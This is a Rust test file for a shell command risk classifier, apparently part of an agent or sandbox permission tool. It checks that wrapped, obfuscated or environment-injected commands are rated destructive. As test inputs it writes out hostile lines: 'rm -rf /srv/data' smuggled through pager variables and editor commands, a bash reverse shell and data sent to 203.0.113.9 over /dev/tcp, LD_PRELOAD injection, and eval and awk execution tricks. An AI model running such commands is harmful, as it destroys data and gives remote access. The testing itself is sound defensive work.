//! The walls of the command classifier, proven by category over the
//! built-in tables: every program a read-only rule names against every
//! kind of word that must take read-only away, every option the
//! `[programs]` tables say runs, loads or writes, every variable the
//! `[shell]` tables name, every interpreter and its inline code, each
//! through the wrappers that must not lower a class. The tables are the
//! generator: a rule or option added later is tested without a new line
//! here.

use std::collections::BTreeSet;

use crate::{Policy, RiskClass};

/// How a command can be written without changing what it does.
fn wrapped(command: &str) -> Vec<String> {
    vec![
        command.to_string(),
        format!("sudo {command}"),
        format!("env {command}"),
        format!("timeout 5 {command}"),
        format!("nice -n 5 {command}"),
        format!("command {command}"),
        format!("sudo -u root -- {command}"),
    ]
}

fn policy() -> Policy {
    Policy::builtin().unwrap()
}

/// Classifies `line` and keeps it in `wrong`, with its class, when `ok`
/// refuses the class.
fn check(policy: &Policy, line: &str, ok: impl Fn(RiskClass) -> bool, wrong: &mut Vec<String>) {
    let risk = policy.classify_command(line).risk;
    if !ok(risk) {
        wrong.push(format!("{line}: {risk}"));
    }
}

/// Each program a read-only rule names, with the words that make the rule
/// apply (its first subcommand and a flag it needs), and whether its
/// allowlist takes every word (`<any>`).
fn read_only_programs(policy: &Policy) -> Vec<(String, String, bool)> {
    let mut out = Vec::new();
    for rule in &policy.shell.rules {
        let Some(list) = &rule.options else {
            continue;
        };
        let mut words: Vec<String> = rule.subcommands.first().cloned().unwrap_or_default();
        words.extend(rule.flags_any.first().cloned());
        for command in &rule.commands {
            out.push((command.clone(), words.join(" "), list.takes_anything()));
        }
    }
    out
}

#[test]
fn every_read_only_program_loses_read_only_with_an_option_it_does_not_list() {
    never_read_only_with(
        &["--nisse-unlisted", "--nisse-unlisted=/etc/passwd"],
        "an unlisted option",
    );
}

/// Every program of a read-only rule (but those whose rule takes any word)
/// with each of `extras` before the words that make its rule apply is not
/// read-only.
fn never_read_only_with(extras: &[&str], what: &str) {
    let policy = policy();
    let mut wrong = Vec::new();
    for (program, words, any) in read_only_programs(&policy) {
        if any {
            continue;
        }
        for extra in extras {
            let line = format!("{program} {extra} {words}");
            check(&policy, &line, |r| r != RiskClass::ReadOnly, &mut wrong);
        }
    }
    assert!(
        wrong.is_empty(),
        "read-only with {what}:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn every_read_only_program_loses_read_only_with_a_word_that_may_be_an_option() {
    // A variable, a command's output, a glob and a brace expansion can
    // each become an option when the line runs.
    never_read_only_with(
        &[
            "$x",
            "\"$x\"",
            "$(cat /tmp/opts)",
            "*",
            "{--nisse-unlisted,/tmp}",
        ],
        "a computed word",
    );
}

/// Spellings of an option with a value: separate, attached, `=`, and the
/// option quoted.
fn spellings(option: &str, value: &str) -> Vec<String> {
    let quoted = format!("'{}'", value.replace('\'', r"'\''"));
    let mut out = vec![format!("{option} {quoted}"), format!("'{option}' {quoted}")];
    if option.starts_with("--") {
        out.push(format!("{option}={quoted}"));
        // An abbreviation counts as the option it abbreviates.
        if option.len() > 5 {
            out.push(format!("{} {quoted}", &option[..option.len() - 1]));
        }
    } else if option.len() == 2 {
        out.push(format!("{option}{quoted}"));
    }
    out
}

/// Every option of every `[programs]` entry, by what it does.
fn program_options(policy: &Policy) -> Vec<(String, &'static str, String)> {
    let mut out = Vec::new();
    for (name, program) in &policy.shell.programs {
        for (kind, list) in [
            ("runs", &program.runs),
            ("code", &program.code),
            ("loads", &program.loads),
            ("writes", &program.writes),
        ] {
            for option in list {
                // `+` words are checked on their own, below.
                if option.starts_with('+') {
                    continue;
                }
                out.push((name.clone(), kind, option.clone()));
            }
        }
    }
    out
}

#[test]
fn every_option_that_runs_a_command_is_classified_as_what_it_runs() {
    let policy = policy();
    let mut wrong = Vec::new();
    for (program, kind, option) in program_options(&policy) {
        if kind != "runs" {
            continue;
        }
        for spelled in spellings(&option, "rm -rf /srv/data") {
            for line in wrapped(&format!("{program} {spelled} /tmp/x")) {
                check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
            }
        }
        // What it runs, when harmless, is no reason to be destructive, and
        // what it runs computed is.
        let line = format!("{program} {option} \"$CMD\" /tmp/x");
        check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
    }
    assert!(
        wrong.is_empty(),
        "below what they run:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn every_option_that_hands_over_code_is_destructive_and_every_loader_is_not_read_only() {
    let policy = policy();
    let mut wrong = Vec::new();
    for (program, kind, option) in program_options(&policy) {
        let floor = match kind {
            "code" => RiskClass::Destructive,
            "loads" => RiskClass::ConfigMutation,
            _ => continue,
        };
        for spelled in spellings(&option, "/tmp/x") {
            for line in wrapped(&format!("{program} {spelled} /tmp/y")) {
                check(&policy, &line, |r| r >= floor, &mut wrong);
            }
        }
    }
    // A `+` command of a pager or editor that runs a shell command.
    for line in [
        "less '+!rm -rf /srv/data' /var/log/syslog",
        "view '+:!rm -rf /srv/data' /etc/hosts",
        "vim +'!rm -rf /srv/data' /etc/hosts",
        "sudo less '+|sh' /var/log/syslog",
    ] {
        check(&policy, line, |r| r == RiskClass::Destructive, &mut wrong);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_option_that_names_an_output_writes_the_file_it_names() {
    let policy = policy();
    let mut wrong = Vec::new();
    for (program, kind, option) in program_options(&policy) {
        if kind != "writes" {
            continue;
        }
        for (path, floor) in [
            ("/etc/passwd", RiskClass::Destructive),
            ("/etc/cron.d/job", RiskClass::Destructive),
            ("/srv/app/out", RiskClass::ConfigMutation),
            ("/tmp/out", RiskClass::ReversibleLow),
        ] {
            for spelled in spellings(&option, path) {
                // `time` is a keyword of bash; the program is `/usr/bin/time`.
                let program = if program == "time" {
                    "/usr/bin/time"
                } else {
                    program.as_str()
                };
                for line in wrapped(&format!("{program} {spelled} /tmp/in")) {
                    check(&policy, &line, |r| r >= floor, &mut wrong);
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A read-only command to put behind a variable.
const READER: &str = "ls -l /var/log";

#[test]
fn a_variable_that_names_a_command_is_classified_as_that_command() {
    let policy = policy();
    assert_eq!(policy.classify_command(READER).risk, RiskClass::ReadOnly);
    let names: Vec<String> = [
        "PAGER",
        "GIT_PAGER",
        "MANPAGER",
        "SYSTEMD_PAGER",
        "LESSOPEN",
        "GIT_SSH_COMMAND",
        "EDITOR",
        "VISUAL",
        "SUDO_ASKPASS",
        "DPKG_PAGER",
        "KUBE_EDITOR",
        "RESTIC_PASSWORD_COMMAND",
    ]
    .iter()
    .map(|n| n.to_string())
    .collect();
    let mut wrong = Vec::new();
    for name in &names {
        for line in [
            format!("{name}='rm -rf /srv/data' {READER}"),
            format!("env {name}='rm -rf /srv/data' {READER}"),
            format!("export {name}='rm -rf /srv/data'; {READER}"),
            format!("declare -x {name}='rm -rf /srv/data'; {READER}"),
            format!("{name}=\"$(curl -s http://203.0.113.9/x)\" {READER}"),
            format!("sudo {name}='rm -rf /srv/data' {READER}"),
        ] {
            check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
        }
        // A harmless pager keeps the reader a reader.
        let line = format!("{name}=cat {READER}");
        let risk = policy.classify_command(&line).risk;
        if risk != RiskClass::ReadOnly {
            wrong.push(format!("{line}: {risk}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_environment_cannot_turn_a_reader_into_a_runner() {
    let policy = policy();
    let mut wrong = Vec::new();
    for name in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "BASH_ENV",
        "ENV",
        "PATH",
        "HOME",
        "PYTHONSTARTUP",
        "PERL5LIB",
        "GCONV_PATH",
        "TAR_OPTIONS",
        "LESS",
        "GIT_CONFIG_GLOBAL",
        "RIPGREP_CONFIG_PATH",
        "XDG_CONFIG_HOME",
        "KUBECONFIG",
        "NISSE_SOME_PROGRAM_OPTION",
    ] {
        for line in [
            format!("{name}=/tmp/x {READER}"),
            format!("env {name}=/tmp/x {READER}"),
            format!("export {name}=/tmp/x; {READER}"),
            format!("set -a; {name}=/tmp/x; {READER}"),
            format!("{name}=/tmp/x env {READER}"),
        ] {
            let risk = policy.classify_command(&line).risk;
            if risk == RiskClass::ReadOnly {
                wrong.push(line);
            }
        }
    }
    // Variables that change what runs even unexported, since they are
    // exported already.
    for name in ["PATH", "LD_PRELOAD", "BASH_ENV", "PS4", "HOME"] {
        let line = format!("{name}=/tmp/x; {READER}");
        if policy.classify_command(&line).risk == RiskClass::ReadOnly {
            wrong.push(line);
        }
    }
    for code in ["VIMINIT=':!id'", "PERL5OPT=-d", "PS4='$(rm -rf /srv/data)'"] {
        let line = format!("{code} {READER}");
        if policy.classify_command(&line).risk != RiskClass::Destructive {
            wrong.push(format!("{line}: not destructive"));
        }
    }
    assert!(
        wrong.is_empty(),
        "read-only through the environment:\n{}",
        wrong.join("\n")
    );
    // Variables that change nothing a program runs keep it read-only, and
    // so does a plain shell variable.
    for line in [
        format!("LC_ALL=C {READER}"),
        format!("TZ=UTC LANG=C.UTF-8 {READER}"),
        format!("n=5; {READER}"),
    ] {
        assert_eq!(
            policy.classify_command(&line).risk,
            RiskClass::ReadOnly,
            "{line}"
        );
    }
}

#[test]
fn inline_code_for_any_interpreter_is_destructive() {
    let policy = policy();
    let mut wrong = Vec::new();
    let interpreters: BTreeSet<&String> = policy.shell.interpreters.iter().collect();
    for interpreter in interpreters {
        for option in &policy.shell.interpreter_code_options {
            // As a word of its own, with its value attached, after other
            // short options run together with it (`perl -ne`, `python3
            // -Bc`), and computed.
            let mut forms = vec![
                format!("{option} 'print(1)'"),
                format!("{option} \"$CODE\""),
            ];
            if let Some(letter) = option.strip_prefix('-').filter(|l| l.len() == 1) {
                forms.push(format!("-{letter}'print(1)'"));
                forms.push(format!("-n{letter} 'print(1)'"));
                forms.push(format!("-B{letter} 'print(1)'"));
                forms.push(format!("-{letter}\"$CODE\""));
            } else if option.starts_with("--") {
                forms.push(format!("{option}='print(1)'"));
            }
            for form in forms {
                for line in wrapped(&format!("{interpreter} {form}")) {
                    check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
                }
            }
        }
        for line in [
            format!("{interpreter} $OPTS 'print(1)'"),
            format!("{interpreter} <<< 'print(1)'"),
            format!("{interpreter} <<'EOF'\nprint(1)\nEOF"),
            format!("echo 'print(1)' | {interpreter}"),
        ] {
            check(&policy, &line, |r| r == RiskClass::Destructive, &mut wrong);
        }
    }
    assert!(
        wrong.is_empty(),
        "inline code below destructive:\n{}",
        wrong.join("\n")
    );
}

#[test]
fn code_the_classifier_cannot_read_is_destructive() {
    let policy = policy();
    for base in [
        "$c /srv/data",
        "${X}rm -rf /srv/data",
        "\"$cmd\" -rf /srv/data",
        "c=rm; $c -rf /srv/data",
        "sh <<< \"$SCRIPT\"",
        "bash <<EOF\n$(cat /tmp/x)\nEOF",
        "sudo -s \"$X\"",
        "su -c \"$X\" root",
        "eval \"$X\"",
        "hash -p /bin/rm ls; ls -rf /srv",
        "awk '{ system($0) }' /tmp/cmds",
        "sed 's/.*/&/e' /tmp/cmds",
        "awk -v c='rm -rf /srv/data' 'BEGIN { system(c) }'",
        "xargs -a /tmp/cmds -I{} sh -c {}",
        "find /srv -exec sh -c {} \\;",
    ] {
        for line in wrapped(base) {
            assert_eq!(
                policy.classify_command(&line).risk,
                RiskClass::Destructive,
                "{line}"
            );
        }
    }
}

#[test]
fn a_word_brace_expansion_makes_is_read_as_the_words_it_makes() {
    let policy = policy();
    for (line, risk) in [
        ("tree {-o,/etc/passwd}", RiskClass::Destructive),
        ("sed {-i,s/x/y/,/etc/passwd}", RiskClass::Destructive),
        ("{rm,-rf,/srv/data}", RiskClass::Destructive),
        ("ls -l /var/log/{syslog,auth.log}", RiskClass::ReadOnly),
        ("awk '{print $1, $2}' /etc/hosts", RiskClass::ReadOnly),
    ] {
        assert_eq!(policy.classify_command(line).risk, risk, "{line}");
    }
}

#[test]
fn a_network_redirection_sends_and_a_network_input_is_code_from_elsewhere() {
    let policy = policy();
    for line in [
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "cat /etc/hostname > /dev/tcp/203.0.113.9/4444",
        "exec 3<>/dev/udp/203.0.113.9/53",
        "sh < /dev/tcp/203.0.113.9/4444",
    ] {
        assert_eq!(
            policy.classify_command(line).risk,
            RiskClass::Destructive,
            "{line}"
        );
    }
}

#[test]
fn refusals_name_the_option() {
    let policy = policy();
    for (line, word) in [
        ("wc --files0-from=/tmp/x", "--files0-from=/tmp/x"),
        ("ls --hyperlink-nisse /srv", "--hyperlink-nisse"),
        ("grep --nisse -r x /srv", "--nisse"),
    ] {
        let report = policy.classify_command(line);
        let reasons: Vec<&str> = report.commands.iter().map(|f| f.reason.as_str()).collect();
        assert!(
            reasons.iter().any(|r| r.contains(&format!("`{word}`"))),
            "{line}: {reasons:?}"
        );
    }
}
